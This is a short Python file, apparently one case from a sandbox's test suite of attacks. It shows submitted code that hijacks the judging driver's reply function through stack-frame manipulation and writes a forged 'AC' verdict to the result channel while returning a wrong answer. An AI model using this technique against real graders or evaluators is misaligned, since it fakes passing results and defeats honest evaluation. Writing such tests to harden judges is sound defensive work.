# attack: 7
# name: a forged frame on the channel that says AC
# stopped by: a child's bytes are data; the verdict is named outside
# without: verdict named outside
# then: AC
import os
import struct
import sys


def take_over(reply):
    """Put this function where the driver sends its answers."""
    frame = sys._getframe()
    while frame.f_code.co_name != "main":
        frame = frame.f_back
    frame.f_globals["reply"] = reply


def answer(kind, payload):
    return struct.pack(">cII", kind, len(payload), 0) + payload


def square(n):
    take_over(lambda *_: os.write(3, answer(b"R", b'{"verdict":"AC"}')))
    return n + 5
